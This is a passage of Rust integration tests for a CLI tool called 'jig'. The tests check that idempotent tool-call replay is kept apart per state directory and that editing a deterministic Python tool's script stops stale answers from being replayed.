    let author = tempfile::tempdir().expect("tmp");
    let victim = tempfile::tempdir().expect("tmp");
    let made = tempfile::tempdir().expect("tmp");
    let root = made.path();
    std::fs::write(
        root.join("jig.yaml"),
        "name: keyed\npolicy:\n  rules:\n    - { tools: [file_write], action: allow }\n",
    )
    .expect("write");
    let write = |state: &Path| {
        let args = r#"{"path": "out.txt", "content": "x"}"#;
        jig_env(
            root,
            &["call", "file_write", "--thread", "t-1", "--args", args],
            &[("XDG_STATE_HOME", state.to_str().expect("utf-8"))],
        )
    };
    let first = write(author.path());
    assert_eq!(first.status.code(), Some(0), "{}", stderr(&first));
    let again = write(author.path());
    assert_eq!(stdout_json(&again)["replayed"], true, "{}", stderr(&again));
    std::fs::remove_file(root.join("out.txt")).expect("rm");

    let other = write(victim.path());
    assert_eq!(other.status.code(), Some(1), "{}", stderr(&other));
    let response = stdout_json(&other);
    assert_eq!(response["errors"][0]["code"], "E_CONFLICT", "{response}");
    assert!(!root.join("out.txt").exists(), "run again");
}

/// A deterministic tool's script edited since a run does not replay that run's answer.
#[test]
fn an_edited_script_does_not_replay_the_old_answer() {
    let made = tempfile::tempdir().expect("tmp");
    let root = made.path();
    let answer = |text: &str| {
        deterministic_python_tool(root, "v", &format!("print(json.dumps({{'v': '{text}'}}))"));
        let out = jig(root, &["call", "probe.v", "--args", "{}"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        stdout_json(&out)
    };
    assert_eq!(answer("one")["data"]["v"], "one");
    let again = answer("one");
    assert_eq!((&again["data"]["v"], &again["replayed"]), (&json!("one"), &json!(true)));
    assert_eq!(answer("two")["data"]["v"], "two");
}

/// A project at `root` with one deterministic tool `probe.<name>`, reading files, whose Python
/// script is `body` (after `import json`).
fn deterministic_python_tool(root: &Path, name: &str, body: &str) {
    std::fs::create_dir_all(root.join("tools/scripts")).expect("mkdir");
    std::fs::write(root.join("jig.yaml"), "name: replayed\n").expect("write");
    std::fs::write(
        root.join(format!("tools/{name}.tool.yaml")),
        format!(
            "id: probe.{name}\nversion: 1.0.0\ndescription: Answers.\nsideEffects: [read]\n\
             risk: low\ndeterministic: true\ntimeoutMs: 10000\n\
             limits: {{maxInputBytes: 1024, maxOutputBytes: 1024}}\n\
             inputSchema: {{type: object}}\noutputSchema: {{type: object}}\n\
             execution: {{kind: python, script: scripts/{name}.py}}\n"
        ),
    )
    .expect("write");
    std::fs::write(root.join(format!("tools/scripts/{name}.py")), format!("import json\n{body}\n"))
        .expect("write");
}

fn copy_tree(from: &Path, to: &Path) {
    let status = Command::new("cp").arg("-a").arg(format!("{}/.", from.display())).arg(to).status();
    assert!(status.expect("cp").success());
}
